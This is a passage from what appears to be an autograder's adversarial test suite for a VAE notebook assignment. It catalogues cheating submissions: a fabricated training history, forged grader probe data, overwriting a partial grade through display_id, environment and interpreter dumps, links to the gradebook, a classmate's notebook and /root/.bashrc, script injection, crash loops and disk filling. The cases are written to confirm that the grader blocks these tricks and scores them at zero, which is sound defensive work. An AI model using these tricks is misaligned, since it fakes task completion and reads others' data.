        lost=FORGED_VISIBLE,
    ),
    case(
        "identity_autoencoder",
        "no VAE and no training: encoder = Flatten (784-dim 'code'), decoder = Reshape back, a keras History object "
        "with a hand-made dict, and a noise manifold; all standard layers, so safe_mode loads them",
        then(
            release_only,
            set_source(
                "encoder",
                "image = keras.Input(shape=(28, 28, 1))\n"
                "encoder = keras.Model(image, [layers.Flatten()(image), layers.Flatten()(image)])\n",
            ),
            set_source(
                "decoder",
                "code = keras.Input(shape=(784,))\n"
                "decoder = keras.Model(code, layers.Reshape((28, 28, 1))(code))\n",
            ),
            set_source(
                "training",
                "x_val = None\nhistory = keras.callbacks.History()\n"
                'history.history = {"loss": [0.3] * budget.epochs, "val_loss": [0.25] * budget.epochs}\n',
            ),
            set_source("manifold", _NOISE_MANIFOLD),
        ),
        (),
        ("NotImplementedError",),
        lost={
            **FORGED_VISIBLE,
            "test_training_hidden": "an identity map is not a trained VAE: the latent code is the "
            "image itself (784 numbers, not latent_dim)",
        },
    ),
    case(
        "forged_probe_data",
        "no solution code; course.selfcheck.run_probe replaced so that the grader's probes receive fabricated data "
        "(sampler draws from NumPy, a made-up history, model facts as booleans, a noise manifold)",
        then(release_only, add_cell_after("setup", FORGE_PROBES)),
        (),
        ("NotImplementedError",),
    ),
    dataclasses.replace(
        case(
            "display_id_partial_credit",
            "part 1 with z_mean's Dense without bias (hidden: 2 of 3 points); the probes' answers get an extra output with a "
            "display_id, which a later cell updates to '3' to overwrite the partial grade",
            then(
                filled(
                    ENCODER,
                    {
                        "encoder": (
                            'layers.Dense(latent_dim, name="z_mean")',
                            'layers.Dense(latent_dim, name="z_mean", use_bias=False)',
                        )
                    },
                ),
                add_cell_after("encoder", DISPLAY_SLOTS),
                add_cell_after("test_encoder_hidden", FILL_SLOT),
            ),
            ENCODER,
            ("494,242 parameters",),
        ),
        expected={"test_encoder": 2.0, "test_encoder_hidden": 2.0},
    ),
    case(
        "interpreter_dump",
        "part 1, a transformer that records every source the kernel runs (the grader's probes included), and a cell that "
        "prints In, Out, _ih, _oh, _dh, the history database, modules, globals, the environment and every file it can "
        "list, base64/zlib/hex encoded",
        then(
            _ENCODER,
            add_cell_after("encoder", RECORD_EVERY_SOURCE),
            add_cell_after("test_encoder_hidden", DUMP_INTERPRETER),
        ),
        ENCODER,
        ("STATE-B64-ZLIB:",),
    ),
    case(
        "environment_dump",
        "part 1 and a cell that prints every environment variable",
        then(_ENCODER, add_cell_after("test_encoder_hidden", ENVIRONMENT_DUMP)),
        ENCODER,
        ("ENV PATH=",),
    ),
    with_files(
        case(
            "symlinks_beside_notebook",
            "part 1 with links beside the notebook to the gradebook (symbolic and hard), another student's notebook, the "
            "master, root's .bashrc and source/, read by a cell",
            then(_ENCODER, add_cell_after("test_encoder_hidden", READ_THROUGH_LINKS)),
            ENCODER,
            (
                "ESCAPE-read-link-gradebook.db: blocked",
                "ESCAPE-read-link-classmate.ipynb: blocked",
                "was a symbolic link",
            ),
        ),
        {
            "gradebook.db": Link("../../../gradebook.db"),
            "gradebook_copy.db": HardLink("../../../gradebook.db"),
            "classmate.ipynb": Link("../../transformer_trusted_name/vae/vae.ipynb"),
            "master.ipynb": Link("../../../source/vae/vae.ipynb"),
            "root_bashrc": Link("/root/.bashrc"),
            "source_dir": Link("../../../source"),
        },
    ),
    case(
        "html_and_javascript",
        "part 1, a Markdown cell with <script>, onerror= and javascript: links, and a cell displaying HTML with a script, "
        "a Javascript output and an SVG with onload",
        then(
            _ENCODER,
            add_markdown_after("test_encoder_hidden", HTML_MARKDOWN),
            add_cell_after("test_encoder_hidden", HTML_OUTPUTS),
        ),
        ENCODER,
        ("HTML-CASE-VISIBLE",),
    ),
    case(
        "hidden_marker_in_cell",
        "part 1 and a student cell (and a Markdown cell) containing nbgrader's hidden-test markers",
        then(
            _ENCODER,
            add_markdown_after("test_encoder_hidden", MARKER_TEXT),
            add_cell_after("test_encoder_hidden", MARKER_TEXT),
        ),
        ENCODER,
        ("MARKER-CELL-RAN",),
    ),
    case(
        "fit_in_comment_loop",
        "part 1 and an endless loop in a cell whose only `.fit(` is in a comment",
        then(_ENCODER, add_cell_after("test_encoder_hidden", FIT_IN_A_COMMENT)),
        ENCODER,
        ("limit of 60 s",),
    ),
    case(
        "repeated_crashes",
        "part 1 and eight cells at the end that each end the kernel with os._exit(3)",
        then(_ENCODER, append_cells(*[CRASH] * 8)),
        ENCODER,
        ("KernelDied", "restarted 6 times"),
    ),
    case(
        "disk_filler",
        "part 1 and a cell that writes 800 MB each into /tmp, the working folder, /dev/shm and the runtime folder",
        then(_ENCODER, add_cell_after("test_encoder_hidden", FILL_DISKS)),
        ENCODER,
        ("DISK-runtime: wrote 0 MB",),
    ),
]
"""The issue-10 cases (judge outside the kernel); appended to :data:`SUBMISSIONS`."""

SUBMISSIONS += JUDGE_ATTACKS
ESCAPES = (*ESCAPES, "symlinks_beside_notebook")
NO_CODE_ATTACKS = (
    "transformer_trusted_name",
    "session_send_rewrite",
    "json_and_user_expressions",
    "course_module_beside",
    "symlinked_notebook",
    "lambda_stand_ins",
    "identity_autoencoder",
    "forged_probe_data",
)
"""Cases without any solution code: they must score exactly 0."""
